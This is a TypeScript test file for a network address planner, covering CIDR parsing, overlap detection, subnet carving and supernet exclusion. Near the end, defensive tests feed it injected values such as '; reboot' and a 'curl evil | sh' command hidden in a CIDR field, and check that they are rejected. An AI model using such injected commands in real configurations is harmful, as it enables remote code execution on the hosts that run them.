import { strict as assert } from "assert";
import fc from "fast-check";
import * as ipaddr from "ipaddr.js";
import { Problems } from "../../components/config/problems";
import { checkDisjoint, KeyedCidr, overlappingPairs } from "../../components/network/addressPlan";
import { checkHubSites } from "../../components/site/fleetRules";
import { siteSettings, validHub } from "../support/fixtures";
import { carve, cidr, CidrProblem, contains, exclude, overlaps, parseCidr } from "../../components/network/cidr";
import { hubCidrs, otherSiteNetworks } from "../../components/network/otherSites";
import { planPrivateSubnets, planSupernetRoutes } from "../../components/network/vpcPlan";

describe("CIDR parsing", () => {
    const accepted = ["10.0.0.0/16", "0.0.0.0/0", "10.80.1.0/24", "192.168.1.1/32", "100.64.0.0/10"];
    for (const text of accepted) {
        it(`accepts ${text}`, () => {
            const parsed = parseCidr(text);
            assert.ok(parsed.ok);
            assert.equal(parsed.cidr.text, text);
        });
    }

    const syntax: unknown[] = [
        "10.0.0.0",
        "10.0/16",
        "010.0.0.0/8",
        "10.0.0.0/33",
        "10.0.0.256/24",
        "10.0.0.0/ 8",
        "",
        42,
        undefined,
        "10.0.0.0/016",
    ];
    for (const text of syntax) {
        it(`rejects ${JSON.stringify(text)} as syntax`, () => {
            assert.deepEqual(parseCidr(text), { ok: false, problem: CidrProblem.Syntax });
        });
    }

    it("rejects host bits and names the network", () => {
        assert.deepEqual(parseCidr("10.80.1.5/24"), { ok: false, problem: CidrProblem.HostBitsSet, canonical: "10.80.1.0/24" });
    });
});

describe("CIDR relations (table)", () => {
    const table: [string, string, boolean, boolean][] = [
        // a, b, a contains b, overlap
        ["10.0.0.0/8", "10.80.0.0/12", true, true],
        ["10.80.0.0/12", "10.0.0.0/8", false, true],
        ["10.80.0.0/12", "10.96.0.0/12", false, false],
        ["10.0.0.0/16", "10.0.255.0/24", true, true],
        ["10.0.0.0/16", "10.1.0.0/24", false, false],
        ["172.20.0.0/16", "172.20.0.0/16", true, true],
        ["0.0.0.0/0", "192.168.0.0/16", true, true],
    ];
    for (const [a, b, inside, overlap] of table) {
        it(`${a} vs ${b}: contains=${inside} overlaps=${overlap}`, () => {
            assert.equal(contains(cidr(a), cidr(b)), inside);
            assert.equal(overlaps(cidr(a), cidr(b)), overlap);
        });
    }

    it("carves consecutive blocks", () => {
        assert.deepEqual(carve(cidr("10.0.0.0/16"), 19, 3), ["10.0.0.0/19", "10.0.32.0/19", "10.0.64.0/19"]);
        assert.throws(() => carve(cidr("10.0.0.0/24"), 25, 3), /holds fewer than 3/);
    });

    it("plans one private subnet per zone, stable when zones are added", () => {
        assert.deepEqual(planPrivateSubnets("10.0.0.0/16", 2), [
            { cidr: "10.0.0.0/19", zoneIndex: 0 },
            { cidr: "10.0.32.0/19", zoneIndex: 1 },
        ]);
        assert.deepEqual(planPrivateSubnets("10.0.0.0/16", 3).slice(0, 2), planPrivateSubnets("10.0.0.0/16", 2));
        assert.deepEqual(planPrivateSubnets("10.1.2.0/24", 6).at(-1), { cidr: "10.1.2.160/27", zoneIndex: 5 });
    });

    it("plans a route per table and supernet, keyed by content", () => {
        assert.deepEqual(planSupernetRoutes(["rtb-1", "rtb-2"], ["10.80.0.0/12"]), [
            { key: "rtb-1-to-10-80-0-0-12", routeTable: "rtb-1", destination: "10.80.0.0/12" },
            { key: "rtb-2-to-10-80-0-0-12", routeTable: "rtb-2", destination: "10.80.0.0/12" },
        ]);
    });
});

// Arbitrary networks in 10.0.0.0/8 with prefixes /8 to /28: small enough that overlaps are common.
const arbCidr = fc
    .tuple(
        fc.integer({ min: 0, max: 255 }),
        fc.integer({ min: 0, max: 255 }),
        fc.integer({ min: 0, max: 255 }),
        fc.integer({ min: 8, max: 28 }),
    )
    .map(([b, c, d, prefix]) => cidr(`${ipaddr.IPv4.networkAddressFromCIDR(`10.${b}.${c}.${d}/${prefix}`)}/${prefix}`));

const keyed = (list: ReturnType<typeof cidr>[], name: string): KeyedCidr[] => list.map((c, i) => ({ key: `${name}[${i}]`, cidr: c }));

describe("address plan properties", () => {
    it("accepted ranges never overlap, and every overlap is reported", () => {
        fc.assert(
            fc.property(fc.array(arbCidr, { minLength: 1, maxLength: 8 }), (list) => {
                const problems = new Problems();
                checkDisjoint(keyed(list, "r"), "must not overlap", problems);
                const overlappingPairs = list.flatMap((a, i) =>
                    list
                        .slice(i + 1)
                        .filter((b) => overlaps(a, b))
                        .map((b) => [a, b]),
                );
                assert.equal(problems.all.length, overlappingPairs.length);
                if (problems.all.length === 0) {
                    list.forEach((a, i) => list.slice(i + 1).forEach((b) => assert.ok(!overlaps(a, b))));
                }
            }),
        );
    });

    it("finds by sorting and sweeping exactly the overlapping pairs, in the order of comparing every pair", () => {
        fc.assert(
            fc.property(fc.array(arbCidr, { minLength: 0, maxLength: 30 }), (list) => {
                const everyPair: [number, number][] = [];
                list.forEach((a, i) => list.forEach((b, j) => j > i && overlaps(a, b) && everyPair.push([i, j])));
                assert.deepEqual(overlappingPairs(list), everyPair);
            }),
        );
    });

    it("every accepted site range lies inside its supernet", () => {
        fc.assert(
            fc.property(
                fc.array(fc.tuple(arbCidr, arbCidr), { minLength: 1, maxLength: 6 }),
                arbCidr,
                arbCidr,
                (pairs, nodeNet, podNet) => {
                    const sites = pairs.map(([node, pod], i) => ({
                        node: { key: `site${i}.nodeCidr`, cidr: node },
                        pod: { key: `site${i}.podCidr`, cidr: pod },
                    }));
                    const problems = new Problems();
                    // The fleet rules' ranges only: one site per name and address, no tunnels.
                    const hub = {
                        ...validHub(),
                        remoteNodeNetworks: [nodeNet.text],
                        remotePodNetworks: [podNet.text],
                        gateway: { type: "tgw" },
                    };
                    checkHubSites(
                        { hub, label: "hub", owner: "hub", region: "", root: "hub", settingsRoot: "hub" },
                        pairs.map(([node, pod], i) => ({
                            site: {
                                ...siteSettings(),
                                name: `s${i}`,
                                vpnServer: { publicIp: `203.0.113.${i}`, asn: 65000 },
                                tunnels: undefined,
                                nodeCidr: node.text,
                                podCidr: pod.text,
                            },
                            region: "",
                            root: `site${i}`,
                            regionKey: `site${i}.region`,
                        })),
                        problems,
                    );
                    for (const site of sites) {
                        const reported = problems.all.some((p) => p.key === site.node.key || p.key === site.pod!.key);
                        if (!reported) {
                            assert.ok(contains(nodeNet, site.node.cidr), `${site.node.cidr.text} accepted outside ${nodeNet.text}`);
                            assert.ok(contains(podNet, site.pod!.cidr), `${site.pod!.cidr.text} accepted outside ${podNet.text}`);
                        }
                    }
                    if (problems.all.length === 0) {
                        const all = sites.flatMap((s) => [s.node.cidr, s.pod!.cidr]);
                        all.forEach((a, i) => all.slice(i + 1).forEach((b) => assert.ok(!overlaps(a, b))));
                    }
                },
            ),
        );
    });

    it("an overlap between two sites is always reported with both keys", () => {
        fc.assert(
            fc.property(arbCidr, fc.integer({ min: 0, max: 4 }), (range, extra) => {
                const inner = carve(range, Math.min(32, range.prefix + extra), 1)[0];
                const problems = new Problems();
                checkDisjoint(
                    [
                        { key: "a.nodeCidr", cidr: range },
                        { key: "b.nodeCidr", cidr: cidr(inner) },
                    ],
                    "must not overlap",
                    problems,
                );
                assert.deepEqual(problems.all, [
                    { key: "b.nodeCidr", message: `"${inner}" overlaps a.nodeCidr "${range.text}"; must not overlap` },
                ]);
            }),
        );
    });
});

describe("the other sites' networks (a supernet without the site's own CIDRs)", () => {
    const table: [string, string[], string[]][] = [
        ["10.80.0.0/12", [], ["10.80.0.0/12"]],
        ["10.80.0.0/12", ["10.80.0.0/12"], []],
        ["10.80.0.0/12", ["10.0.0.0/8"], []],
        ["10.80.0.0/12", ["10.96.0.0/12"], ["10.80.0.0/12"]],
        ["10.80.0.0/22", ["10.80.1.0/24"], ["10.80.0.0/24", "10.80.2.0/23"]],
        ["10.80.0.0/22", ["10.80.1.0/24", "10.80.2.0/24"], ["10.80.0.0/24", "10.80.3.0/24"]],
        [
            "10.96.0.0/12",
            ["10.96.2.0/23"],
            [
                "10.96.0.0/23",
                "10.96.4.0/22",
                "10.96.8.0/21",
                "10.96.16.0/20",
                "10.96.32.0/19",
                "10.96.64.0/18",
                "10.96.128.0/17",
                "10.97.0.0/16",
                "10.98.0.0/15",
                "10.100.0.0/14",
                "10.104.0.0/13",
            ],
        ],
    ];
    for (const [outer, holes, expected] of table) {
        it(`${outer} without ${holes.join(", ") || "nothing"}`, () => {
            assert.deepEqual(
                exclude(cidr(outer), holes.map(cidr)).map((c) => c.text),
                expected,
            );
        });
    }

    it("covers exactly the supernet's addresses outside the holes, with disjoint networks (property)", () => {
        const probe = fc.tuple(fc.integer({ min: 0, max: 255 }), fc.integer({ min: 0, max: 255 }), fc.integer({ min: 0, max: 255 }));
        fc.assert(
            fc.property(
                arbCidr,
                fc.array(arbCidr, { maxLength: 4 }),
                fc.array(probe, { minLength: 1, maxLength: 20 }),
                (outer, holes, probes) => {
                    const rest = exclude(outer, holes);
                    for (const [i, j] of overlappingPairs(rest)) assert.fail(`${rest[i].text} overlaps ${rest[j].text}`);
                    for (const [b, c, d] of probes) {
                        const address = cidr(`10.${b}.${c}.${d}/32`);
                        const expected = contains(outer, address) && !holes.some((h) => contains(h, address));
                        assert.equal(
                            rest.some((r) => contains(r, address)),
                            expected,
                            `10.${b}.${c}.${d}`,
                        );
                    }
                },
            ),
        );
    });

    it("takes node and pod supernets together and refuses a hub output that is not a CIDR", () => {
        assert.deepEqual(otherSiteNetworks(["10.80.0.0/22", "10.96.0.0/22"], ["10.80.1.0/24", "10.96.1.0/24"]), [
            "10.80.0.0/24",
            "10.80.2.0/23",
            "10.96.0.0/24",
            "10.96.2.0/23",
        ]);
        assert.throws(
            () => otherSiteNetworks(["10.80.0.0/12; reboot"], ["10.80.1.0/24"]),
            /^Error: the hub's remote network "10\.80\.0\.0\/12; reboot" is not an IPv4 CIDR such as 10\.80\.0\.0\/12$/,
        );
    });
});

describe("hub outputs a site writes into scripts", () => {
    it("are parsed again as CIDRs: a shell command in vpcCidrs is refused, naming the output", () => {
        assert.deepEqual(hubCidrs(["10.0.0.0/16", "100.64.0.0/16"], "vpcCidrs"), ["10.0.0.0/16", "100.64.0.0/16"]);
        assert.throws(
            () => hubCidrs(["10.0.0.0/16 dev lo; curl evil | sh"], "vpcCidrs"),
            /^Error: the hub's output vpcCidrs holds "10\.0\.0\.0\/16 dev lo; curl evil \| sh", not an IPv4 CIDR such as 10\.0\.0\.0\/16$/,
        );
        assert.throws(() => hubCidrs("10.0.0.0/16", "vpcCidrs"), /^Error: the hub's output vpcCidrs is not a list of IPv4 CIDRs$/);
    });
});
